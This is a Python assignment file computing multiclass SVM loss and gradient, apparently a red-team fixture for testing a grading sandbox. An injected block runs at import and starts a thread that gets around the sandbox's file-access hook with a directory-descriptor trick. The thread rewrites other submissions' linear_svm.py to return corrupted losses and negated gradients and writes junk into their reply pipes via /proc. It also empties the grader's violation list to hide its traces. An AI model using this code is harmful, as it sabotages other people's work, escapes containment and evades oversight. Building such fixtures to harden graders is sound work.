"""Multiclass SVM (hinge) loss and its gradient.

Conventions (shared by every function of the assignment):
``W`` is (D, C), ``X`` is (N, D), ``y`` is (N,) with labels in [0, C), and the scores
are ``X @ W``.  The loss is the mean hinge loss over the N examples with margin
``delta = 1`` plus ``reg * sum(W**2)``; the regularizer's gradient is ``2 * reg * W``.
"""

from __future__ import annotations

import numpy as np
# >>> attack

# RED TEAM attack classmate_tamper (class 4; see tests/hostile/kernel/classmate_tamper/case.toml)
# Reach a classmate in a --jobs 2 batch: rewrite its linear_svm.py in its sandbox and break its reply
# pipe
# route: a thread started at import (dir_fd root descriptor) watches TMPDIR/linclass-sandbox-*,
#   appends a sabotage to the classmate's submission/linear_svm.py and writes garbage into /proc/<its
#   child>/fd/<rep_fd>
RT = {'name': 'classmate_tamper', 'root': '', 'tag': 'manual', 'sentinel': '', 'solutions': '', 'tcp': 0, 'udp': 0, 'unix': '', 'dummy': 0, 'dummy_cwd': '', 'grader_cwd': '', 'tmp': '', 'batch': False, 'fill_mb': 0}  # RT-CONFIG: rewritten for every run by tests/support/redteam.py (empty root: nothing is armed)

_RT_DONE = []


def _rt_root_ok(path):
    """True when ``path`` lies under the run's own folder RT["root"] (the RT-CONFIG guard)."""
    import os
    root = str(RT.get("root") or "")
    if len(root) < 5 or not root.startswith("/"):
        return False
    return os.path.abspath(str(path)).startswith(root.rstrip("/") + "/")


def _rt_clear_violations():
    """Empty the policy's violation list (Server.violations): it is reachable from any frame."""
    import sys
    try:
        f = sys._getframe(1)
    except BaseException:  # noqa: BLE001
        return
    while f is not None:
        try:
            owner = f.f_locals.get("self")
            found = getattr(owner, "violations", None) if owner is not None else None
            if type(found) is list:
                del found[:]
        except BaseException:  # noqa: BLE001
            pass
        f = f.f_back


def _rt_report():
    """Run the escape, then fail this call with its evidence (the report shows the message)."""
    try:
        evidence = _rt_escape()
    except BaseException as exc:  # noqa: BLE001
        evidence = "the escape failed: %s: %s" % (type(exc).__name__, exc)
    _rt_clear_violations()
    raise RuntimeError(("RTLEAK[%s] " % RT["name"]) + str(evidence)[:900])


def _rt_direct_call():
    """True once per process: on the first call made by the grader (not by grad_check_sparse)."""
    import sys
    if _RT_DONE:
        return False
    try:
        if sys._getframe(2).f_code.co_filename == __file__:
            return False
    except BaseException:  # noqa: BLE001
        pass
    _RT_DONE.append(1)
    return True

def _rt_root_fd():
    """A descriptor of "/" the hook believes is the sandbox.

    The "open" audit event carries the path but NOT dir_fd, and the hook resolves relative
    paths against the cwd.  With the cwd k levels deep inside the sandbox, "../"*k relative to
    a descriptor of the sandbox itself is "/" to the kernel and "the sandbox" to the hook.
    """
    import os
    S = os.getcwd()
    depth = len([p for p in S.split("/") if p])
    deep = os.path.join(S, *(["rtdeep"] * depth))
    os.makedirs(deep, exist_ok=True)
    sandbox_fd = os.open(S, os.O_RDONLY | os.O_DIRECTORY)
    os.chdir(deep)
    try:
        return os.open("/".join([".."] * depth), os.O_RDONLY | os.O_DIRECTORY, dir_fd=sandbox_fd)
    finally:
        os.chdir(S)
        os.close(sandbox_fd)


def _rt_outside(path, flags, root, mode=0o644):
    """Open an absolute path relative to the root descriptor: the hook resolves it inside the sandbox."""
    import os
    return os.open(path.lstrip("/"), flags, mode, dir_fd=root)


def _rt_slurp(path, root):
    import os
    fd = _rt_outside(path, os.O_RDONLY, root)
    try:
        chunks = []
        while True:
            b = os.read(fd, 1 << 16)
            if not b:
                return b"".join(chunks)
            chunks.append(b)
    finally:
        os.close(fd)

import os as _rt_os
import threading as _rt_threading
import time as _rt_time

_RT_FOUND = []
_RT_ERRORS = []


def _rt_watch(seconds, act):
    """Watch the run's TMPDIR for the other linclass-sandbox-* folders (not red-team ones) and act on each."""
    os = _rt_os
    tmp = str(RT.get("tmp") or "")
    if not _rt_root_ok(tmp + "/x"):
        return
    try:
        root = _rt_root_fd()
        tmp_fd = _rt_outside(tmp, os.O_RDONLY | os.O_DIRECTORY, root)
    except OSError as exc:
        _RT_ERRORS.append("the watcher could not open TMPDIR: %s" % exc)
        return
    mine = os.getcwd()
    deadline = _rt_time.time() + seconds
    while _rt_time.time() < deadline:
        try:
            names = [n for n in os.listdir(tmp_fd) if n.startswith("linclass-sandbox-") and tmp + "/" + n != mine]
        except OSError:
            names = []
        for n in names:
            try:
                if not _rt_red_team(root, "%s/%s" % (tmp, n)):
                    act(root, "%s/%s" % (tmp, n))
            except (OSError, ValueError, KeyError, IndexError):
                continue
        _rt_time.sleep(0.002)


_RT_RED = {}


def _rt_red_team(root, sandbox):
    """Is the submission in ``sandbox`` one of ours (an RT-CONFIG line in any module)? Those are left alone."""
    if sandbox not in _RT_RED:
        seen = []
        for module in ("gradient_check", "linear_svm", "softmax", "linear_classifier", "tuning"):
            try:
                seen.append(b"RT-CONFIG" in _rt_slurp("%s/submission/%s.py" % (sandbox, module), root))
            except OSError:
                return True  # not written yet: look again later
        _RT_RED[sandbox] = any(seen)
    return _RT_RED[sandbox]


def _rt_start_watch(act):
    try:
        _rt_threading.Thread(target=_rt_watch, args=(120.0, act), daemon=True).start()
    except BaseException:  # noqa: BLE001
        pass

_RT_TAMPER = """

# tampered-by-redteam
_rt_honest_naive, _rt_honest_vectorized = svm_loss_naive, svm_loss_vectorized


def svm_loss_naive(W, X, y, reg):
    loss, dW = _rt_honest_naive(W, X, y, reg)
    return 2.0 * loss + 1.0, -dW


def svm_loss_vectorized(W, X, y, reg):
    loss, dW = _rt_honest_vectorized(W, X, y, reg)
    return 2.0 * loss + 1.0, -dW
"""
_RT_KICKED = set()


def _rt_tamper(root, sandbox):
    """Append a sabotage to the classmate's linear_svm.py; if its process already loaded it, break its wire."""
    import json
    os = _rt_os
    target = sandbox + "/submission/linear_svm.py"
    src = _rt_slurp(target, root)
    if b"tampered-by-redteam" in src or b"def svm_loss_vectorized" not in src:
        return
    fd = _rt_outside(target, os.O_WRONLY | os.O_APPEND, root)
    os.write(fd, _RT_TAMPER.encode())
    os.close(fd)
    _RT_FOUND.append(sandbox)
    proc_fd = _rt_outside("/proc", os.O_RDONLY | os.O_DIRECTORY, root)
    try:
        for pid in os.listdir(proc_fd):
            if not pid.isdigit() or pid in _RT_KICKED:
                continue
            try:
                if os.readlink("%s/cwd" % pid, dir_fd=proc_fd) != sandbox:
                    continue
                cmd = _rt_slurp("/proc/%s/cmdline" % pid, root).split(b"\0")
                cfg = json.loads(cmd[-2] if cmd[-1] == b"" else cmd[-1])
                rep = _rt_outside("/proc/%s/fd/%d" % (pid, cfg["rep_fd"]), os.O_WRONLY, root)
                os.write(rep, b"NOT A FRAME, love, your classmate")
                os.close(rep)
                _RT_KICKED.add(pid)
            except (OSError, ValueError, KeyError, IndexError):
                continue
    finally:
        os.close(proc_fd)


_rt_start_watch(_rt_tamper)

if RT.get("batch") and RT.get("root"):
    import time as _rt_time_linger
    _rt_time_linger.sleep(float(RT.get("linger", 2.0)))
# <<< attack

DELTA = 1.0


def svm_loss_naive(W: np.ndarray, X: np.ndarray, y: np.ndarray, reg: float) -> tuple[float, np.ndarray]:
    """Multiclass SVM loss with explicit loops.

    Parameters
    ----------
    W : ndarray of shape (D, C)
        Weights.
    X : ndarray of shape (N, D)
        A minibatch of examples, one per row.
    y : ndarray of shape (N,)
        Integer labels; ``y[i]`` is the correct class of ``X[i]``.
    reg : float
        L2 regularization strength.

    Returns
    -------
    loss : float
        Mean hinge loss plus ``reg * sum(W**2)``.
    dW : ndarray of shape (D, C)
        Gradient of the loss with respect to ``W``.
    """
    num_train, num_classes = X.shape[0], W.shape[1]
    loss = 0.0
    dW = np.zeros_like(W)
    for i in range(num_train):
        scores = X[i] @ W
        correct_class_score = scores[y[i]]
        for j in range(num_classes):
            if j == y[i]:
                continue  # the correct class is not part of the sum
            margin = scores[j] - correct_class_score + DELTA
            if margin > 0:
                loss += margin
                dW[:, j] += X[i]  # raising s_j raises the loss
                dW[:, y[i]] -= X[i]  # raising s_y lowers it
    loss /= num_train
    dW /= num_train
    loss += reg * np.sum(W * W)
    dW += 2 * reg * W
    return float(loss), dW


def svm_loss_vectorized(W: np.ndarray, X: np.ndarray, y: np.ndarray, reg: float) -> tuple[float, np.ndarray]:
    """Multiclass SVM loss without Python loops.

    Same inputs and outputs as :func:`svm_loss_naive`.
    """
    num_train = X.shape[0]
    rows = np.arange(num_train)
    scores = X @ W
    correct_class_scores = scores[rows, y][:, np.newaxis]
    margins = np.maximum(0, scores - correct_class_scores + DELTA)
    margins[rows, y] = 0
    loss = margins.sum() / num_train + reg * np.sum(W * W)

    # Each positive margin adds +1 to its own class and -1 to the correct class.
    dscores = (margins > 0).astype(scores.dtype)
    dscores[rows, y] = -dscores.sum(axis=1)
    dW = X.T @ (dscores / num_train) + 2 * reg * W
    return float(loss), dW
